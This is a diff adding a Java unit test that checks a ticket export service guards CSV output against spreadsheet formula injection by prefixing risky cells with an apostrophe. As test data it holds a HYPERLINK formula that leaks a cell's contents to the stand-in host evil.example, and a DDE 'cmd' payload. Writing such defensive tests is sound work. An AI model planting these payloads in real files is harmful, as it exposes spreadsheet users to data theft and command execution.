@@ -265,6 +265,31 @@ class ExportServiceTest {
     }
 
     @Test
+    void aCellASpreadsheetWouldRunAsAFormulaIsWrittenAsText() throws Exception {
+        String evil = "=HYPERLINK(\"http://evil.example/?leak=\"&C2,\"Open ticket\")";
+        ws.store().saveTickets(List.of(ticket("=cmd|' /C calc'!A0", evil, "-verified user details", "Ann", T0, null, null)),
+                "import").join();
+        long id = id("=cmd|' /C calc'!A0");
+        decide(id, DecisionKind.OVERRIDDEN, "Desktop", null, "@dana said so", true);
+
+        export(opts(ExportFormat.CSV, "csv"));
+        CSVRecord rec;
+        try (Reader rd = Files.newBufferedReader(dir.resolve("csv/dataset.csv"))) {
+            rec = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(rd).getRecords().get(0);
+        }
+        assertThat(rec.get("external_id")).isEqualTo("'=cmd|' /C calc'!A0");
+        assertThat(rec.get("text")).isEqualTo("'" + evil + "\n-verified user details");
+        assertThat(rec.get("reason_note")).isEqualTo("'@dana said so");
+        assertThat(rec.get("final_team")).isEqualTo("Desktop");
+        assertThat(manifest(dir.resolve("csv")).at("/text/csv_formula_guard").asText()).contains("apostrophe");
+
+        // JSON Lines are no spreadsheet: the text goes as it is
+        export(opts(ExportFormat.OPENAI_JSONL, "oa"));
+        String user = jsonLines(dir.resolve("oa/dataset.jsonl")).get(0).get("messages").get(1).get("content").asText();
+        assertThat(user).contains(evil);
+    }
+
+    @Test
     void csvUpdatesAreClippedLikeTheLivePromptAndMatchTheJsonlUserMessage() throws Exception {
         ws.store().saveTickets(List.of(ticket("big", "Disk full", "The file server is out of space.", "Ann", T0, null, null)),
                 "import").join();
